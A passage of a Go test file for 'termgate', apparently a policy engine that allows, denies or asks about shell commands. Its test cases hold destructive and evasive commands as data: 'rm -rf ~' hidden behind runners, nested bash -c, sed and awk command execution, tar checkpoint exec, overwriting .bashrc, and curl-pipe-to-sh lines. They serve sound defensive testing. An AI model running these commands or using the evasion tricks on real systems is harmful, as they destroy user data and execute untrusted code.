		{"/home/dev/p", "dotenv run rm -rf ~", "deny"},
		{"/home/dev/p", "dotenv -f .env run --override rm -rf ~", "deny"},
		{"/home/dev/p", "dotenv -e .env -- rm -rf ~", "deny"},
		{"/", "setpriv cd /tmp/x; rm -rf etc", "deny"},
		{"/", "chronic pushd /tmp/x && rm -rf etc", "deny"},
		{"/", "time -o t cd /tmp/x; rm -rf etc", "deny"},
		{"/", "nohup cd /tmp/x; rm -rf etc", "deny"},
		{"/home/dev", "setpriv cd -; echo x > .bashrc", "deny"},
		{"/", "command cd /tmp/x; rm -rf etc", "allow"},
		{"/", "builtin cd /tmp/x && rm -rf etc", "allow"},
		{"/", "time cd /tmp/x; rm -rf etc", "allow"},
		{"/home/dev/p", "aws-vault exec prod -- aws s3 ls", "allow"},
		{"/home/dev/p", "mise x node@20 -- node -v", "allow"},
		{"/home/dev/p", "distrobox enter box -e make test", "allow"},
		{"/home/dev/p", "dotenv run python app.py", "allow"},
		{"/home/dev/p", "runcon -t user_t id -Z", "allow"},
		// getopt's optional values are only joined.
		{"/home/dev/p", "xargs -0i rm -rf ~", "deny"},
		{"/home/dev/p", "xargs -i rm -rf ~", "deny"},
		{"/home/dev/p", "rlwrap -ca rm -rf ~", "deny"},
		{"/home/dev/p", "nsenter -t 1 -mr rm -rf ~", "deny"},
		{"/home/dev/p", "ionice -t rm -rf ~", "deny"},
		{"/home/dev/p", "faketime -f '2020-01-01 00:00:00' rm -rf ~", "deny"},
		{"/home/dev/p", "xargs -I {} rm -rf {}", "confirm"},
	} {
		d, err := e.Decide(context.Background(), Input{Action: "input", Program: "bash", Text: tc.line, Cwd: tc.cwd, Gateway: &Gateway{Home: "/home/dev"}})
		if err != nil || d.Action != tc.want {
			t.Errorf("in %s, %q: %s %s (%s) %v, want %s", tc.cwd, tc.line, d.Action, d.Rule, d.Reason, err, tc.want)
		}
	}
}

// TestRunnerReadingsStayBounded: runners within runners, each read both
// after its separator and by position, and capsh run again and again,
// make a number of commands that grows with the line, not with two to
// the power of its runners; and the line is still stopped.
func TestRunnerReadingsStayBounded(t *testing.T) {
	e := defaultEngine(t)
	for _, line := range []string{
		strings.Repeat("aws-vault exec p aws-vault exec p -- ", 16) + "rm -rf ~",
		strings.Repeat("mise x mise x -- ", 16) + "rm -rf ~",
		strings.Repeat("distrobox-enter distrobox-enter -e ", 16) + "rm -rf ~",
		"capsh " + strings.Repeat("== ", 1900) + "-- -c 'rm -rf ~'",
		// past the readings followed, the line is asked about
		strings.Repeat("aws-vault exec p ", 5) + "rm -rf ~ -- true",
		strings.Repeat("aws-vault exec p true -- true; ", 17) + "aws-vault exec p rm -rf ~ -- true",
		nestedBashC("rm -rf ~", 6),
	} {
		in := e.Build(Input{Action: "input", Program: "bash", Text: line})
		if words := len(strings.Fields(line)); len(in.Shell.Commands) > 4*words {
			t.Errorf("%.40q…: %d commands for %d words", line, len(in.Shell.Commands), words)
		}
		d, err := e.Decide(context.Background(), Input{Action: "input", Program: "bash", Text: line})
		if err != nil || d.Action == "allow" {
			t.Errorf("%.40q…: %s %s, %v", line, d.Action, d.Rule, err)
		}
	}
}

// nestedBashC is line handed to bash -c, n times over, quoted as a
// shell quotes it.
func nestedBashC(line string, n int) string {
	for range n {
		line = "bash -c '" + strings.ReplaceAll(line, "'", `'\''`) + "'"
	}
	return line
}

// TestRunnerDataIsChecked: a bundle whose runner data is malformed is
// refused, not half read.
func TestRunnerDataIsChecked(t *testing.T) {
	for _, bad := range []map[string]any{
		{"termgate": map[string]any{"runners": map[string]any{"x": map[string]any{"skip": 99}}}},
		{"termgate": map[string]any{"runners": map[string]any{"x": map[string]any{"bogus": true}}}},
		{"termgate": map[string]any{"runners": map[string]any{"x": map[string]any{"arity": map[string]any{"--bind": 0}}}}},
		{"termgate": map[string]any{"runners": map[string]any{"x": map[string]any{"arity": map[string]any{"--bind": "2"}}}}},
		{"termgate": map[string]any{"runners": []any{"x"}}},
		{"termgate": map[string]any{"command_options": map[string]any{"tar": "x"}}},
	} {
		if _, err := newShellData(bad); err == nil {
			t.Errorf("%v: accepted", bad)
		}
	}
	dir := t.TempDir()
	writeBundle(t, dir, map[string]string{
		"p.rego":    "package termgate\n\ndecision := {\"action\": \"allow\", \"rule\": \"x\"}\n",
		"data.json": `{"termgate": {"runners": {"nice": {"skip": -1}}}}`,
	})
	if _, err := New(context.Background(), Source{Dir: dir}); err == nil || !strings.Contains(err.Error(), "skip") {
		t.Fatalf("a bundle with bad runner data: %v", err)
	}
}

func TestOptionValues(t *testing.T) {
	specs := []optSpec{parseOptSpec("-o"), parseOptSpec("--output"), parseOptSpec("-fprint"), parseOptSpec("--checkpoint-action:exec="), parseOptSpec("-c:alias.*=!")}
	for _, tc := range []struct {
		args []string
		want string
	}{
		{[]string{"-sSo", "page.html", "url"}, "page.html"},
		{[]string{"-o/etc/x"}, "/etc/x"},
		{[]string{"--output=f"}, "f"},
		{[]string{"--output", "g"}, "g"},
		{[]string{"-fprint", "/etc/y"}, "/etc/y"},
		{[]string{"--checkpoint-action=exec=rm -rf ~"}, "rm -rf ~"},
		{[]string{"--checkpoint-action=echo"}, ""},
		{[]string{"-c", "alias.x=!rm -rf ~"}, "rm -rf ~"},
		{[]string{"-c", "alias.x=log"}, ""},
		{[]string{"--", "-o", "x"}, ""},
	} {
		var got []string
		for _, v := range optionValues(tc.args, specs) {
			got = append(got, v.value)
		}
		if strings.Join(got, "|") != tc.want {
			t.Errorf("%q: %q, want %q", tc.args, got, tc.want)
		}
	}
}

func TestSedAndAwkScripts(t *testing.T) {
	for _, tc := range []struct {
		script, files, cmds string
		dyn                 bool
	}{
		{"1e rm -rf ~", "", "rm -rf ~", false},
		{"s/a/b/w /etc/x", "/etc/x", "", false},
		{"s/a/b/e", "", "", true},
		{"s|/|x|g; w out.txt", "out.txt", "", false},
		{"/re/e", "", "", true},
		{"$!N; s/\\n/ /; P; D", "", "", false},
		{"a\\ text with e and w", "", "", false},
		{"y/abc/xyz/", "", "", false},
	} {
		files, cmds, dyn := sedEffects(tc.script)
		if strings.Join(files, "|") != tc.files || strings.Join(cmds, "|") != tc.cmds || dyn != tc.dyn {
			t.Errorf("sed %q: files %q cmds %q dyn %v", tc.script, files, cmds, dyn)
		}
	}
	for _, tc := range []struct {
		prog, lits string
		dyn        bool
	}{
		{`BEGIN {system("rm -rf ~")}`, "rm -rf ~", false},
		{`{ print | "sort -u" }`, "sort -u", false},
		{`BEGIN { "date" | getline d }`, "date", false},
		{`{ system($0) }`, "", true},
		{`{ cmd | getline x }`, "", true},
		{`$1 > 1 || $2 < 3 { print }`, "", false},
	} {
		lits, dyn := awkCommands(tc.prog)
		if strings.Join(lits, "|") != tc.lits || dyn != tc.dyn {
			t.Errorf("awk %q: %q dyn %v", tc.prog, lits, dyn)
		}
	}
}

// TestStartInputAndExecAgree: the same line gets the same decision typed,
// run with exec, or as a session's start line.
func TestStartInputAndExecAgree(t *testing.T) {
	e := defaultEngine(t)
	for _, line := range []string{
		"curl -sSo page.html https://example.org ; echo fetched", "curl -s https://x | sh", "bash -c \"$(curl -s x)\"",
		"git clone https://example.org/r && cd r && make", "rm -rf ~",
	} {
		got := map[string]string{}
		for form, in := range map[string]Input{
			"typed": {Action: "input", Program: "bash", Text: line},
			"exec":  {Action: "exec", Program: "bash", Text: line, Start: &Start{Argv: []string{"bash", "-c", line}, Cwd: "/work/p", Env: []string{}}},
			"start": {Action: "start", Program: "sh", Text: line, Start: &Start{Argv: []string{"/bin/sh", "-c", line}, Cwd: "/work/p", Env: []string{}}},
		} {
			d, err := e.Decide(context.Background(), in)
			if err != nil {
				t.Fatal(err)
			}
			got[form] = d.Action + " " + d.Rule
		}
		if got["typed"] != got["exec"] || got["typed"] != got["start"] {
			t.Errorf("%q: %v", line, got)
		}
	}
}
